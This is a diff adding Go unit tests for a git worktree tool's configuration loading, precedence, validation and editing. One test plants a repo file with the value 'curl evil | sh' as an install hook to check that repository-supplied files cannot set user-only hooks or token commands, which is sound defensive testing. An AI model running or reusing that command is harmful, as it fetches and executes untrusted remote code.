@@ -0,0 +1,234 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestReadConfigFile(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	content := "root: /srv/worktrees\nstrategy: sibling-repo\nbogus: 1\npattern: [a, b]\n"
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatalf("failed to write config: %v", err)
+	}
+
+	values, exists, problems := readConfigFile(path)
+	if !exists {
+		t.Fatal("readConfigFile() reported existing file as missing")
+	}
+	if values["root"] != "/srv/worktrees" || values["strategy"] != "sibling-repo" {
+		t.Errorf("readConfigFile() values = %v", values)
+	}
+	if len(problems) != 2 {
+		t.Fatalf("readConfigFile() problems = %v, want 2", problems)
+	}
+	if !strings.Contains(problems[0], ":3: unknown key \"bogus\"") {
+		t.Errorf("problem = %q, want unknown key with line number", problems[0])
+	}
+	if !strings.Contains(problems[1], "pattern must be a string") {
+		t.Errorf("problem = %q, want non-string value", problems[1])
+	}
+
+	if _, exists, problems := readConfigFile(filepath.Join(t.TempDir(), "missing.yaml")); exists || problems != nil {
+		t.Errorf("missing file: exists=%v problems=%v, want false, nil", exists, problems)
+	}
+}
+
+func TestLoadConfigPrecedence(t *testing.T) {
+	configHome := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", configHome)
+	t.Setenv("WORKTREE_ROOT", "")
+	t.Setenv("WORKTREE_STRATEGY", "")
+	t.Setenv("WORKTREE_PATTERN", "")
+
+	repoDir := filepath.Join(t.TempDir(), "repo")
+	setupTestRepo(t, repoDir)
+	origDir, _ := os.Getwd()
+	t.Cleanup(func() { os.Chdir(origDir) })
+	if err := os.Chdir(repoDir); err != nil {
+		t.Fatalf("failed to chdir: %v", err)
+	}
+
+	if err := os.MkdirAll(filepath.Join(configHome, "wt"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	global := "root: /global/root\nstrategy: parent-dotdir\npattern: '{.worktreeRoot}/{.branch}'\n"
+	if err := os.WriteFile(filepath.Join(configHome, "wt", "config.yaml"), []byte(global), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(repoDir, ".wt.yaml"), []byte("strategy: inside-dotdir\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	runGitCommand(t, repoDir, "config", "wt.pattern", "{.repo.Main}/../{.branch}")
+	t.Setenv("WORKTREE_ROOT", "/env/root")
+
+	cfg := loadConfig()
+	tests := []struct {
+		key, value, source string
+	}{
+		{"root", "/env/root", "env WORKTREE_ROOT"},
+		{"strategy", "inside-dotdir", "repo file"},
+		{"pattern", "{.repo.Main}/../{.branch}", "git config wt.pattern"},
+	}
+	for _, tt := range tests {
+		got := cfg.Values[tt.key]
+		if got.Value != tt.value || !strings.HasPrefix(got.Source, tt.source) {
+			t.Errorf("%s = %q (%s), want %q (%s)", tt.key, got.Value, got.Source, tt.value, tt.source)
+		}
+	}
+}
+
+func TestUserOnlyKeysIgnoredInRepoFile(t *testing.T) {
+	t.Setenv("WT_CONFIG", filepath.Join(t.TempDir(), "config.yaml"))
+	repoDir := filepath.Join(t.TempDir(), "repo")
+	setupTestRepo(t, repoDir)
+	origDir, _ := os.Getwd()
+	t.Cleanup(func() { os.Chdir(origDir) })
+	if err := os.Chdir(repoDir); err != nil {
+		t.Fatalf("failed to chdir: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(repoDir, ".wt.yaml"), []byte("hooks-install: curl evil | sh\ngithub-token-command: echo repo-token\ntrust-repo: true\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg := loadConfig()
+	if got := cfg.Values["hooks-install"]; got.Value != "" || got.Source != "default" {
+		t.Errorf("hooks-install from the repo file = %q (%s), want it ignored", got.Value, got.Source)
+	}
+	if got := cfg.get("github-token-command"); got != "" {
+		t.Errorf("github-token-command from the repo file = %q, want it ignored", got)
+	}
+	if cfg.trustsRepo() {
+		t.Error("the repo file trusts itself")
+	}
+	if problems := strings.Join(cfg.Problems, "\n"); !strings.Contains(problems, "hooks-install is ignored in the repo file") {
+		t.Errorf("problems = %q", problems)
+	}
+
+	// The user's own git config may set it.
+	runGitCommand(t, repoDir, "config", "wt.hooks-install", "npx husky")
+	if got := loadConfig().get("hooks-install"); got != "npx husky" {
+		t.Errorf("hooks-install from git config = %q", got)
+	}
+}
+
+func TestValidateConfig(t *testing.T) {
+	fileRoot := filepath.Join(t.TempDir(), "file")
+	if err := os.WriteFile(fileRoot, []byte("x"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	goodRoot := t.TempDir()
+
+	tests := []struct {
+		name     string
+		values   map[string]string
+		wantProb string
+	}{
+		{"valid", map[string]string{"root": goodRoot, "strategy": "global"}, ""},
+		{"missing root parent", map[string]string{"root": filepath.Join(goodRoot, "a", "b"), "strategy": "global"}, ""},
+		{"relative root", map[string]string{"root": "worktrees", "strategy": "global"}, "not an absolute path"},
+		{"root is a file", map[string]string{"root": filepath.Join(fileRoot, "sub"), "strategy": "global"}, "is not a directory"},
+		{"unknown strategy", map[string]string{"root": goodRoot, "strategy": "nope"}, "unsupported WORKTREE_STRATEGY"},
+		{"bad template", map[string]string{"root": goodRoot, "strategy": "custom", "pattern": "{.repo.Nmae}/{.branch}"}, "pattern"},
+		{"unclosed template", map[string]string{"root": goodRoot, "strategy": "custom", "pattern": "{.branch"}, "invalid worktree pattern"},
+		{"bad stale threshold", map[string]string{"root": goodRoot, "strategy": "global", "stale": "two weeks"}, "invalid stale threshold"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cfg := worktreeConfig{Values: make(map[string]configValue)}
+			for k, v := range tt.values {
+				cfg.Values[k] = configValue{Value: v, Source: "test"}
+			}
+			problems := strings.Join(validateConfig(cfg), "\n")
+			if tt.wantProb == "" && problems != "" {
+				t.Errorf("validateConfig() = %s, want no problems", problems)
+			}
+			if tt.wantProb != "" && !strings.Contains(problems, tt.wantProb) {
+				t.Errorf("validateConfig() = %q, want %q", problems, tt.wantProb)
+			}
+		})
+	}
+}
+
+func TestSetUnsetConfigValuePreservesComments(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "wt", "config.yaml")
+
+	if err := setConfigValue(path, "strategy", "global"); err != nil {
+		t.Fatalf("setConfigValue() on missing file: %v", err)
+	}
+	content := "# team defaults\nstrategy: global # layout\nroot: ~/dev/worktrees\n"
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := setConfigValue(path, "strategy", "sibling-repo"); err != nil {
+		t.Fatalf("setConfigValue() error: %v", err)
+	}
+	if err := setConfigValue(path, "base", "develop"); err != nil {
+		t.Fatalf("setConfigValue() error: %v", err)
+	}
+	data, _ := os.ReadFile(path)
+	want := "# team defaults\nstrategy: sibling-repo # layout\nroot: ~/dev/worktrees\nbase: develop\n"
+	if string(data) != want {
+		t.Errorf("config after set =\n%s\nwant\n%s", data, want)
+	}
+
+	removed, err := unsetConfigValue(path, "root")
+	if err != nil || !removed {
+		t.Fatalf("unsetConfigValue() = %v, %v; want true, nil", removed, err)
+	}
+	if removed, _ := unsetConfigValue(path, "root"); removed {
+		t.Error("unsetConfigValue() of missing key reported removal")
+	}
+	data, _ = os.ReadFile(path)
+	want = "# team defaults\nstrategy: sibling-repo # layout\nbase: develop\n"
+	if string(data) != want {
+		t.Errorf("config after unset =\n%s\nwant\n%s", data, want)
+	}
+}
+
+func TestValidateConfigValue(t *testing.T) {
+	if err := validateConfigValue("strategy", "sibling-repo"); err != nil {
+		t.Errorf("valid strategy rejected: %v", err)
+	}
+	if err := validateConfigValue("strategy", "bogus"); err == nil {
+		t.Error("expected unknown strategy to be rejected")
+	}
+	if err := validateConfigValue("pattern", "{.branch"); err == nil {
+		t.Error("expected unparsable pattern to be rejected")
+	}
+}
+
+func TestGlobalConfigPath(t *testing.T) {
+	configHome := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", configHome)
+	t.Setenv("WT_CONFIG", "")
+	if got, want := globalConfigPath(), filepath.Join(configHome, "wt", "config.yaml"); got != want {
+		t.Errorf("globalConfigPath() = %q, want %q", got, want)
+	}
+
+	override := filepath.Join(t.TempDir(), "alt.yaml")
+	t.Setenv("WT_CONFIG", override)
+	if got := globalConfigPath(); got != override {
+		t.Errorf("globalConfigPath() with WT_CONFIG = %q, want %q", got, override)
+	}
+	if got, want := hookDirs(repoInfo{})[0].Path, filepath.Join(filepath.Dir(override), "hooks"); got != want {
+		t.Errorf("global hook dir = %q, want %q", got, want)
+	}
+}
+
+func TestReadConfigFileListKey(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	if err := os.WriteFile(path, []byte("artifacts:\n  - target/\n  - build/\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	values, _, problems := readConfigFile(path)
+	if len(problems) > 0 {
+		t.Fatalf("readConfigFile() problems = %v", problems)
+	}
+	if got := splitList(values["artifacts"]); strings.Join(got, "|") != "target/|build/" {
+		t.Errorf("artifacts = %v, want [target/ build/]", got)
+	}
+}